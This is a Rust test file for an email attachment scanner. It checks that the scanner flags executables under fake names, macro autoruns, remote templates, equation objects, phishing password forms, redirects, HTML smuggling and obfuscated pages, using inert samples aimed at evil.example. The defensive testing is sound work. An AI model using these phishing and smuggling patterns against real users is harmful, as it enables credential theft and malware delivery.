//! Programs, Office documents, web pages, invitations.

use super::*;

#[test]
fn programs_scripts_and_shortcuts_are_known_by_content_and_by_name() {
    check(b"MZ\x90\0\x03\0\0\0\x04\0", "holiday.jpg", &["attachment-type-differs", "attachment-program"]);
    check(b"WScript.Echo(1)", "note.vbs", &["attachment-script"]);
    check(b"WScript.Echo(1)", "note.pdf.vbs", &["attachment-script", "attachment-double-extension"]);
    let seen = check(
        b"[InternetShortcut]\r\nURL=file://evil.example/share\r\n",
        "read me.url",
        &["attachment-web-shortcut", "attachment-shortcut"],
    );
    assert_eq!(targets(&seen), ["file://evil.example/share"]);
    check(b"full address:s:evil.example\r\n", "remote.rdp", &["attachment-remote-desktop"]);
    check(b"ITSF\x03\0\0\0", "help.dat", &["attachment-help-file"]);
    let mut iso = vec![0; 0x9000];
    iso[0x8000..0x8006].copy_from_slice(b"\x01CD001");
    check(&iso, "backup.dat", &["attachment-disk-image"]);
    check(b"plain text", "readme.txt", &[]);
    check(b"", "empty", &[]);
}

#[test]
fn office_documents_are_looked_into() {
    let rels = br#"<Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="https://evil.example/a?b=1&amp;c=2" TargetMode="External"/><Relationship Id="2" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let text = b"<w:document><w:p><w:t>Enable</w:t><w:t> content &amp; go</w:t></w:p><w:p><w:t>now</w:t></w:p></w:document>";
    let mut macros = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    macros.create_storage("/VBA").unwrap();
    macros.create_stream("/VBA/ThisDocument").unwrap().write_all(b"Sub Document_Open()").unwrap();
    let project = macros.into_inner().into_inner();
    let files: [(&str, &[u8]); 4] = [
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", text),
        ("word/_rels/document.xml.rels", rels),
        ("word/vbaProject.bin", &project),
    ];
    let seen = check(&zip_of(&files), "a.docm", &["attachment-remote-template", "attachment-macro-autorun"]);
    assert_eq!(targets(&seen), ["https://evil.example/a?b=1&c=2", "https://evil.example/t.dotm"]);
    assert_eq!(seen.text, "Enable content & go\nnow");
    assert!(seen.listing.is_empty());
    assert_eq!(
        seen.detected_type.as_deref(),
        Some("application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    );
    check(&zip_of(&files[..2]), "a.docx", &[]);
    check(
        &zip_of(&[("[Content_Types].xml", b""), ("xl/macrosheets/sheet1.xml", b"<x/>")]),
        "a.xlsm",
        &["attachment-excel4-macro"],
    );
}

#[test]
fn old_office_documents_are_looked_into() {
    let compound = |streams: &[(&str, &[u8])]| {
        let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        for (path, bytes) in streams {
            if let Some((folder, _)) = path.rsplit_once('/').filter(|(folder, _)| !folder.is_empty()) {
                file.create_storage_all(folder).unwrap();
            }
            file.create_stream(path).unwrap().write_all(bytes).unwrap();
        }
        file.into_inner().into_inner()
    };
    let plain = check(&compound(&[("/WordDocument", &[0; 600])]), "a.doc", &[]);
    assert_eq!(plain.detected_type.as_deref(), Some("application/msword"));
    check(
        &compound(&[("/WordDocument", &[0; 64]), ("/Macros/VBA/Module1", b"Sub AutoOpen()")]),
        "a.doc",
        &["attachment-macro-autorun"],
    );
    check(
        &compound(&[("/WordDocument", &[0; 64]), ("/Macros/VBA/Module1", b"Sub Tidy()")]),
        "a.doc",
        &["attachment-macro"],
    );
    check(&compound(&[("/EncryptedPackage", &[1; 64])]), "a.docx", &["attachment-encrypted"]);
    check(
        &compound(&[("/Workbook", &[0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 0, 0])]),
        "a.xls",
        &["attachment-excel4-macro"],
    );
    check(&compound(&[("/Workbook", &[0x2f, 0, 2, 0, 0, 0])]), "a.xls", &["attachment-encrypted"]);
    check(
        &compound(&[("/WordDocument", &[0; 64]), ("/ObjectPool/_1/Equation Native", &[0; 64])]),
        "a.doc",
        &["attachment-equation-object"],
    );
    check(&compound(&[("/__properties_version1.0", &[0; 64])]), "a.msg", &["attachment-outlook-item"]);
}

#[test]
fn rich_text_is_looked_into() {
    let seen = check(
        br#"{\rtf1 {\field{\*\fldinst HYPERLINK "https://evil.example/r"}{\fldrslt click}}}"#,
        "a.rtf",
        &[],
    );
    assert_eq!((targets(&seen), seen.text.as_str()), (vec!["https://evil.example/r"], "click"));
    check(
        br"{\rtf1 {\object\objocx{\*\objdata 01050000 4571756174 696f6e2e33 }}}",
        "a.doc",
        &["attachment-equation-object"],
    );
    check(br"{\rtf1 {\object{\*\objdata 0105}}}", "a.rtf", &["attachment-embedded-object"]);
    let seen =
        check(br"{\rtf1{\*\template https://evil.example/t}}", "a.rtf", &["attachment-remote-template"]);
    assert_eq!(targets(&seen), ["https://evil.example/t"]);
}

#[test]
fn web_pages_are_looked_into() {
    check(b"<html><p>Hello</p></html>", "a.html", &["html-attachment"]);
    let seen = check(
        b"<html><form action=https://evil.example/p><input type=password name=p></form>",
        "login.htm",
        &["html-attachment", "html-attachment-password", "html-attachment-form"],
    );
    assert_eq!(targets(&seen), ["https://evil.example/p"]);
    let seen = check(
        b"<html><meta http-equiv=refresh content='0;url=https://evil.example/m'>",
        "a.html",
        &["html-attachment", "html-attachment-redirect"],
    );
    assert_eq!(targets(&seen), ["https://evil.example/m"]);
    let seen = check(
        b"<script>window.location.href = 'https://evil.example/j'</script>",
        "a.html",
        &["html-attachment", "html-attachment-script", "html-attachment-redirect"],
    );
    assert_eq!(targets(&seen), ["https://evil.example/j"]);
    let smuggling = b"<html><script>var d=atob('UEsDBA==');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>";
    check(smuggling, "a.html", &["html-attachment", "html-attachment-script", "html-smuggling"]);
}

#[test]
fn what_a_page_hides_in_base64_or_percent_signs_is_read() {
    // <form action="https://evil.example/hidden"><input type="password"></form>
    let hidden = "PGZvcm0gYWN0aW9uPSJodHRwczovL2V2aWwuZXhhbXBsZS9oaWRkZW4iPjxpbnB1dCB0eXBlPSJwYXNzd29yZCI+PC9mb3JtPg==";
    let page = format!("<html><script>document.write(atob(\"{hidden}\"))</script>");
    let seen = look(page.as_bytes(), "a.html", "", &mut Budget::for_one_message());
    assert_eq!(targets(&seen), ["https://evil.example/hidden"]);
    let found = codes(page.as_bytes(), "a.html");
    assert!(
        found.contains(&"html-obfuscated".to_owned())
            && found.contains(&"html-attachment-password".to_owned()),
        "{found:?}"
    );
    let page = "<html><script>document.write(unescape('%3Cmeta http-equiv=refresh content=%220;url=https://evil.example/percent%22%3E'))</script>";
    let seen = look(page.as_bytes(), "a.html", "", &mut Budget::for_one_message());
    assert!(targets(&seen).contains(&"https://evil.example/percent"), "{seen:?}");
}

#[test]
fn invitations_are_looked_into() {
    let invitation = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"Pay: Desk\":mailto:o@evil.example\r\nSUMMARY:Salary review\r\nLOCATION:https://evil.example/lo\r\n cation\r\nDESCRIPTION:Please read\\n\\nhttps://evil.example/d\\, soon\r\nURL:https://evil.example/u\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    let seen = check(invitation.as_bytes(), "invite.ics", &["calendar-link"]);
    assert_eq!(
        targets(&seen),
        ["https://evil.example/location", "https://evil.example/d", "https://evil.example/u"]
    );
    assert!(seen.links.iter().all(|link| link.found_in == "calendar"));
    assert!(seen.evidence[0].finding.why.contains("o@evil.example") && seen.text.contains("Salary review"));
    check(b"BEGIN:VCALENDAR\nSUMMARY:Lunch\nEND:VCALENDAR", "lunch.ics", &["calendar-invite"]);
}

#[test]
fn what_is_longer_than_is_read_is_told() {
    let long = "word ".repeat(600_000);
    let rich = format!("{{\\rtf1 {long}}}");
    check(rich.as_bytes(), "a.rtf", &["attachment-not-read"]);
    let text_only = format!("{{\\rtf1 {}}}", "word ".repeat(30_000));
    check(text_only.as_bytes(), "a.rtf", &["attachment-not-read"]);
    check(format!("{{\\rtf1 {}}}", "word ".repeat(1_000)).as_bytes(), "a.rtf", &[]);

    let bytes = format!("BEGIN:VCALENDAR\r\nX-A:{long}\r\nEND:VCALENDAR\r\n");
    check(bytes.as_bytes(), "a.ics", &["attachment-not-read", "calendar-invite"]);
    let lines = format!("BEGIN:VCALENDAR\r\n{}END:VCALENDAR\r\n", "X-A:1\r\n".repeat(20_000));
    check(lines.as_bytes(), "a.ics", &["attachment-not-read", "calendar-invite"]);

    let page = format!("<html><p>{long}</p></html>");
    check(page.as_bytes(), "a.html", &["attachment-not-read", "html-attachment"]);
    let short = format!("<html><p>{}</p></html>", "word ".repeat(30_000));
    check(short.as_bytes(), "a.html", &["html-attachment", "attachment-not-read"]);
    let links: String =
        (0..300).map(|number| format!("<a href=https://example.org/{number}>x</a>")).collect();
    check(format!("<html>{links}").as_bytes(), "a.html", &["html-attachment", "attachment-not-read"]);
}

#[test]
fn notebooks_with_packed_files_are_told() {
    let mut notebook = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    notebook.extend([0; 64]);
    notebook.extend(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    notebook.extend(10_u64.to_le_bytes());
    notebook.extend([0; 12]);
    notebook.extend(b"MZ\x90\0\x03\0\0\0\x04\0");
    check(&notebook, "a.one", &["attachment-program", "attachment-onenote"]);
}
